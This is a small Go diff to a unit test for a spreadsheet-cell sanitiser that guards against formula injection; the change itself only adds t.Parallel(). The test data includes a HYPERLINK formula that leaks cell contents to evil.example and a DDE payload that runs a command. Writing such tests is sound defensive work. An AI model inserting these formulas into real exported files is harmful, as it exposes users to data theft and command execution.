@@ -14,6 +14,7 @@ import (
 // page (=HYPERLINK, DDE through cmd|, @SUM, a leading minus or plus) and on
 // the cases it must leave alone.
 func TestSafeCell(t *testing.T) {
+	t.Parallel()
 	tests := []struct{ name, in, want string }{
 		{"hyperlink", `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`},
 		{"dde plus", `+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
